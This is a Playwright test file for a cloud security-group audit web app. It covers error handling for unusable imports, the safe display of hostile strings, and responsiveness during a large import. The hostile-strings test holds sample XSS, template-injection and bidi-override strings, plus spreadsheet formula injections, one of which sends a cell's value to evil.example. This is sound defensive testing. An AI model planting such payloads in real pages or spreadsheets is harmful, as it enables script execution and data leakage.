/**
 * Bad input through the web app's import: unusable files show their error naming the file and the
 * place and change nothing; hostile strings are shown as text; an 80 MB export of 300,000 groups
 * imports through the file input while the page keeps rendering frames and handling clicks.
 * The fixtures and their expected messages are test/fixtures/bad/INDEX.json's.
 */
import { expect, test, type Page } from '@playwright/test';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeBadFixtures } from '../../scripts/make-bad-fixtures.mjs';
import { badFolder, readBadIndex } from '../support/bad-fixtures';
import { expectNoForeignRequestsOrPageProblems, auditRow, checkRow, createAudit, screenshot, startHarness, tab, type AppHarness } from './app';

// The page's globals used in page.evaluate, declared here: the Node project has no DOM library.
declare const window: { responsiveness: { frames: number; clicks: number } };
declare const document: { addEventListener(type: 'click', listener: () => void, capture: boolean): void };
declare function requestAnimationFrame(callback: () => void): number;

const index = readBadIndex();
let harness: AppHarness;
let scratch: string;
let generated: Record<string, string>;

test.beforeAll(async () => {
  harness = await startHarness();
  scratch = mkdtempSync(join(tmpdir(), 'sg-audit-e2e-bad-'));
  generated = makeBadFixtures(join(scratch, 'generated'), ['nesting-100000-deep.json', 'large-300k-groups.json']);
});

test.afterAll(async () => {
  await harness?.close();
  rmSync(scratch, { recursive: true, force: true });
});

test.afterEach(() => {
  expectNoForeignRequestsOrPageProblems(harness);
});

/** Every check row's status and counts, to compare before and after. */
async function resultCounts(page: Page): Promise<string[]> {
  await expect(page.getByTestId('checks-table')).toBeVisible();
  return page
    .getByTestId('check-row')
    .evaluateAll((rows) =>
      rows.map((row) =>
        [
          row.getAttribute('data-check-id'),
          row.getAttribute('data-status'),
          row.querySelector('[data-testid="count-groups"]')?.textContent,
          row.querySelector('[data-testid="count-instances"]')?.textContent,
        ].join(' '),
      ),
    );
}

/** A representative set: not JSON, truncated, a zip bomb, another cloud's file, nesting too deep. */
const unusable: { name: string; place?: string }[] = [
  { name: 'pdf-renamed.json' },
  { name: 'truncated-string.json', place: '3:17' },
  { name: 'zip-bomb.zip' },
  { name: 'aws-security-groups.json' },
  { name: 'nesting-100000-deep.json', place: '1:65' },
];

test('unusable files show their error with the file and the place, and the audit is unchanged', async () => {
  const { context, page } = await harness.launch(join(scratch, 'profile-bad'));
  await expect(auditRow(page, 'Sample audit — Demo Co.')).toBeVisible({ timeout: 60_000 });
  await auditRow(page, 'Sample audit — Demo Co.').getByTestId('open-audit').click();
  const before = await resultCounts(page);
  await tab(page, 'imports').click();
  const filesBefore = await page.getByTestId('file-row').count();
  await tab(page, 'results').click();

  await page.getByTestId('open-import').click();
  await page
    .getByTestId('import-files-input')
    .setInputFiles(unusable.map(({ name }) => generated[name] ?? join(badFolder, name)));
  await expect(page.getByTestId('import-summary')).toBeVisible({ timeout: 60_000 });
  await expect(page.getByTestId('nothing-to-store')).toBeVisible();
  await expect(page.getByTestId('import-commit')).toBeDisabled();
  await expect(page.locator('[data-testid="import-entry"][data-status="unusable"]')).toHaveCount(unusable.length);
  await expect(page.getByTestId('summary-errors')).toHaveText(String(unusable.length));

  const rows = page.getByTestId('import-issues').getByTestId('issue-row');
  await expect(rows).toHaveCount(unusable.length);
  for (const { name, place } of unusable) {
    const row = rows.filter({ hasText: name });
    await expect(row, name).toHaveCount(1);
    // The index's message, shown whole (the UI shows the message the importer wrote).
    await expect(row, name).toContainText(index[name]!.message!);
    if (place !== undefined) await expect(row.locator('td').nth(2), name).toHaveText(place);
  }
  await screenshot(page, '30-bad-input-errors');

  await page.getByTestId('import-cancel').click();
  await expect(page.getByTestId('import-modal')).toBeHidden();
  expect(await resultCounts(page)).toEqual(before);
  await tab(page, 'imports').click();
  await expect(page.getByTestId('file-row')).toHaveCount(filesBefore);
  await context.close();
});

test('hostile strings are shown as text, invisible characters as markers, nothing is run', async () => {
  const { context, page } = await harness.launch(join(scratch, 'profile-hostile'));
  await expect(page.getByTestId('audit-row').first()).toBeVisible({ timeout: 60_000 });
  await createAudit(page, 'Hostile strings', 'Hostile strings audit');
  await page.getByTestId('open-import').click();
  await page.getByTestId('import-files-input').setInputFiles(join(badFolder, 'hostile-strings.json'));
  await expect(page.getByTestId('import-summary')).toBeVisible({ timeout: 60_000 });
  await expect(page.getByTestId('summary-errors')).toHaveText('0');
  await page.getByTestId('import-commit').click();
  await expect(page.getByTestId('import-modal')).toBeHidden();
  await expect(checkRow(page, 'exposed-ssh-22').getByTestId('count-groups')).toHaveText('1');

  await tab(page, 'groups').click();
  const group = (id: string) => page.locator(`[data-testid="group-row"][data-object-id="${id}"]`);
  await expect(group('sg-hostile0001')).toContainText('<img src=x onerror=alert(1)>');
  await expect(group('sg-hostile0002')).toContainText('javascript:alert(document.domain)');
  await expect(group('sg-hostile0003')).toContainText('⟪U+202E⟫gnp.exe');
  await expect(group('sg-hostile0004')).toContainText('nul⟪U+0000⟫byte');
  // The emoji's variation selector (U+FE0F) is marked too: such selectors can smuggle hidden text.
  await expect(group('sg-hostile0005')).toContainText('安全组 🔥🛡⟪U+FE0F⟫ مجموعة الأمان');

  await group('sg-hostile0001').locator('.n-data-table-expand-trigger').click();
  const details = page.getByTestId('group-details');
  await expect(details).toContainText('</script><script>alert(1)</script>');
  for (const formula of ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", '@SUM(1)', '⟪U+0009⟫TAB', '⟪U+000A⟫LF', '＝1+1'])
    await expect(details, formula).toContainText(formula);
  await screenshot(page, '31-hostile-strings-group');
  await group('sg-hostile0001').locator('.n-data-table-expand-trigger').click();

  await group('sg-hostile0002').locator('.n-data-table-expand-trigger').click();
  await expect(details).toContainText("{{constructor.constructor('alert(1)')()}} @:x {0} %s");
  await group('sg-hostile0002').locator('.n-data-table-expand-trigger').click();
  await group('sg-hostile0004').locator('.n-data-table-expand-trigger').click();
  await expect(details).toContainText('lone ⟪U+D800⟫ and ⟪U+DFFF⟫ surrogates');
  await group('sg-hostile0004').locator('.n-data-table-expand-trigger').click();
  await group('sg-hostile0005').locator('.n-data-table-expand-trigger').click();
  // The 100,000-character word is cut for display, saying so.
  await expect(details).toContainText('WWWWWWWWWW');
  expect((await details.innerText()).length).toBeLessThan(20_000);
  await screenshot(page, '32-hostile-strings-long-word');

  // Nothing was turned into markup, a link or a script.
  await expect(page.locator('img[src="x"], svg[onload], a[href^="javascript"], script:not([src])')).toHaveCount(0);
  expect(await page.locator('body').innerHTML()).not.toContain('\u202E');

  await tab(page, 'instances').click();
  await expect(page.locator('[data-testid="instance-row"][data-object-id="i-hostile01"]')).toContainText('evil⟪U+202E⟫exe.txt');
  await expect(page.locator('[data-testid="instance-row"][data-object-id="i-hostile02"]')).toContainText('<svg onload=alert(1)>');
  await screenshot(page, '33-hostile-strings-instances');
  await context.close();
});

test('an 80 MB export of 300,000 groups imports through the file input; the page keeps responding', async () => {
  test.setTimeout(900_000);
  const { context, page } = await harness.launch(join(scratch, 'profile-large'));
  await expect(page.getByTestId('audit-row').first()).toBeVisible({ timeout: 60_000 });
  await createAudit(page, 'Large Co.', '300,000 groups');
  await page.getByTestId('open-import').click();

  // Frames drawn and clicks handled, counted by the page itself.
  await page.evaluate(() => {
    const counters = { frames: 0, clicks: 0 };
    window.responsiveness = counters;
    const frame = (): void => {
      counters.frames += 1;
      requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    document.addEventListener('click', () => (counters.clicks += 1), true);
  });
  const counters = () => page.evaluate(() => window.responsiveness);

  await page.getByTestId('import-files-input').setInputFiles(generated['large-300k-groups.json']!);
  const progress = page.getByTestId('import-progress');
  await expect(progress).toBeVisible({ timeout: 120_000 });
  const atStart = await counters();
  // While the worker imports and checks, the page draws frames and takes a click…
  await page.waitForFunction((frames) => window.responsiveness.frames >= frames + 30, atStart.frames, { timeout: 120_000 });
  await page.getByTestId('import-modal').locator('.n-card-header').click();
  await page.waitForFunction((clicks) => window.responsiveness.clicks > clicks, atStart.clicks);
  // …and all of that happened before the import was over.
  await expect(progress).toBeVisible();
  await screenshot(page, '34-large-import-in-progress');

  await expect(page.getByTestId('import-summary')).toBeVisible({ timeout: 600_000 });
  await expect(page.getByTestId('summary-errors')).toHaveText('0');
  await expect(page.locator('[data-testid="import-entry"][data-status="imported"]')).toHaveCount(1);
  await screenshot(page, '35-large-import-review');
  await page.getByTestId('import-commit').click();
  await expect(page.getByTestId('import-modal')).toBeHidden({ timeout: 300_000 });
  // One group in a hundred opens MySQL to the internet (scripts/make-bad-fixtures.mjs).
  await expect(checkRow(page, 'exposed-mysql-3306').getByTestId('count-groups')).toHaveText('3000');
  await screenshot(page, '36-large-import-results');
  await context.close();
});
